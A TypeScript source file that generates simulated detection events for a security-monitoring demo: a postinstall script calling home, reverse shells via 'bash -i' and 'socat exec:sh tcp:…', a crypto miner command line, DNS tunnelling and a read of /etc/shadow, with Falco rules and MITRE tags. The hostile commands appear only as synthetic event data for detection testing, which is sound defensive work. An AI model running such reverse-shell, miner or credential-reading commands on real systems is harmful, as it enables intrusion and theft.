import type { Severity } from '@parapet/contracts';
import { type AgentName, API_SERVER } from '../fleet';
import type { FalcoRule } from './falco';
import { hour, type Moment, type Program, type Sight } from './moment';
import type { Sensors } from './sensors';
import { CHECKOUT_POD, OPERATOR_POD, REPORT_POD } from './workload';

/** Something that the house must find. */
export interface Planted {
  readonly agent: AgentName;
  /** Of the issue that it must become. */
  readonly title: string;
  readonly severity: Severity;
  readonly moments: readonly Moment[];
}

/** When in the day something happens: from an hour on, so often, so many minutes apart. */
interface Rhythm {
  readonly from: number;
  readonly times: number;
  readonly everyMinutes: number;
}

function sights(agent: AgentName, dayFrom: number, rhythm: Rhythm, { dice }: Sensors): Sight[] {
  const { from, times, everyMinutes } = rhythm;
  return Array.from({ length: times }, (_, i) => {
    const minutes = (i + 0.5 * dice.next()) * everyMinutes;
    return { agent, at: hour(dayFrom, from + minutes / 60) };
  });
}

/** A package that a build installs calls home each time. */
function callsHome(from: number, sensors: Sensors): Planted {
  const agent = 'demo-runner-2';
  const by: Program = { executable: '/usr/bin/node', command: 'node postinstall.js' };
  const to = { name: 'collect.telemetry-kit.example', ip: '203.0.113.77', port: 443 };
  const seen = sights(agent, from, { from: 6, times: 12, everyMinutes: 60 }, sensors);
  const moments = seen.flatMap((sight) => [
    sensors.native.lookup(sight, by, to.name),
    sensors.native.connection({ ...sight, at: sight.at + 40 }, by, to),
  ]);
  return { agent, title: `Unknown egress to ${to.name}`, severity: 'high', moments };
}

/** A step of a build opens a shell to somebody, and an agent in mode `enforce` does not let it. */
function isBlocked(from: number, sensors: Sensors): Planted {
  const agent = 'demo-runner-3';
  const by: Program = { executable: '/usr/bin/bash', command: 'bash -i' };
  const to = { ip: '198.51.100.23', port: 4444 };
  const seen = sights(agent, from, { from: 16, times: 3, everyMinutes: 1 }, sensors);
  const moments = seen.map((sight) => sensors.native.connection(sight, by, to, 'blocked'));
  return { agent, title: `Unknown egress to ${to.ip}`, severity: 'medium', moments };
}

const MINER: Program = {
  executable: '/tmp/.cache/kworker',
  command: '/tmp/.cache/kworker -o xmr.pool.example:3333 --donate-level 1',
};

/** A miner is started on a node. */
function startsMiner(from: number, sensors: Sensors): Planted {
  const agent = 'demo-node-2';
  const seen = sights(agent, from, { from: 18.5, times: 1, everyMinutes: 1 }, sensors);
  const moments = seen.map((sight) =>
    sensors.native.execution(sight, MINER, 'detected', { name: 'crypto_miner_execution' }),
  );
  return { agent, title: 'Crypto miner executed', severity: 'high', moments };
}

/** It talks to its pool again and again. */
function talksToPool(from: number, sensors: Sensors): Planted {
  const agent = 'demo-node-2';
  const to = { name: 'xmr.pool.example', ip: '203.0.113.44', port: 3333 };
  const rule: FalcoRule = {
    ...{ rule: 'Detect outbound connections to common miner pool ports', priority: 'Critical' },
    tags: ['host', 'container', 'network', 'mitre_impact', 'T1496'],
  };
  const seen = sights(agent, from, { from: 18.55, times: 9, everyMinutes: 30 }, sensors);
  const moments = seen.map((sight) =>
    sensors.falco.connection(sight, rule, { by: MINER, from: REPORT_POD, to }),
  );
  return { agent, title: `Forbidden egress to ${to.name}`, severity: 'critical', moments };
}

/** Data leaves in the names that are looked up; the sensor tells the zone apart from what was put before it. */
function tunnels(from: number, sensors: Sensors): Planted {
  const agent = 'demo-node-3';
  const by: Program = { executable: '/usr/bin/python3', command: 'python3 -c exec(…)' };
  const zone = 'ns.quiet-river.example';
  const seen = sights(agent, from, { from: 11, times: 36, everyMinutes: 4 }, sensors);
  const moments = seen.map((sight) => {
    const label = sensors.dice.text(48, 'abcdefghijklmnopqrstuvwxyz234567');
    const detail = { name: 'algorithmic_domains', record_type: 'TXT', label, entropy: 4.8 };
    return sensors.native.lookup(sight, by, zone, detail);
  });
  return { agent, title: 'Generated domain name contacted', severity: 'critical', moments };
}

/** A shell is led out of a pod. The tracing policy asks for its end, in a Tetragon that only monitors: that is no proof of a block. */
function leadsShellOut(from: number, sensors: Sensors): Planted {
  const agent = 'demo-node-3';
  const by: Program = {
    executable: '/usr/bin/socat',
    command: 'socat exec:sh tcp:203.0.113.200:8443',
  };
  const to = { ip: '203.0.113.200', port: 8443 };
  const tracing = { policy: 'egress-guard', action: 'KPROBE_ACTION_SIGKILL' } as const;
  const seen = sights(agent, from, { from: 21, times: 4, everyMinutes: 5 }, sensors);
  const moments = seen.map((sight) =>
    sensors.tetragon.connected(sight, tracing, { by, from: CHECKOUT_POD, to }),
  );
  return { agent, title: `Unknown egress to ${to.ip}`, severity: 'high', moments };
}

/** Somebody reads what only a login should. */
function readsShadow(from: number, sensors: Sensors): Planted {
  const agent = 'demo-node-1';
  const path = '/etc/shadow';
  const rule: FalcoRule = {
    ...{ rule: 'Read sensitive file untrusted', priority: 'Warning' },
    tags: ['filesystem', 'mitre_credential_access', 'T1555'],
  };
  const by: Program = { executable: '/opt/report/report', command: 'report --all' };
  const seen = sights(agent, from, { from: 3, times: 1, everyMinutes: 1 }, sensors);
  const moments = seen.map((sight) =>
    sensors.falco.opened(sight, rule, { by, from: REPORT_POD, path }),
  );
  return { agent, title: `Suspicious file access: ${path}`, severity: 'medium', moments };
}

/** The title of the issue that a mended policy makes an end of. */
export const NOISE = `Unknown egress to ${API_SERVER}`;

/** An operator talks to the API server of its cluster, as it should: the policy has forgotten it. */
function isNoisy(from: number, sensors: Sensors): Planted {
  const agent = 'demo-node-1';
  const rule: FalcoRule = {
    ...{ rule: 'Contact K8S API Server From Container', priority: 'Notice' },
    tags: ['container', 'network', 'k8s', 'T1565'],
  };
  const by: Program = { executable: '/app/cert-operator', command: 'cert-operator --watch' };
  const to = { ip: API_SERVER, port: 443 };
  const seen = sights(agent, from, { from: 0.5, times: 90, everyMinutes: 15 }, sensors);
  const moments = seen.map((sight) =>
    sensors.falco.connection(sight, rule, { by, from: OPERATOR_POD, to }),
  );
  return { agent, title: NOISE, severity: 'low', moments };
}

/** What the house must find in a day. @param from when the day begins, ms since 1970 */
export const plantedIn = (from: number, sensors: Sensors): Planted[] =>
  PLANTS.map((plant) => plant(from, sensors));

const PLANTS = [
  ...[callsHome, isBlocked, startsMiner, talksToPool, tunnels, leadsShellOut],
  ...[readsShadow, isNoisy],
];
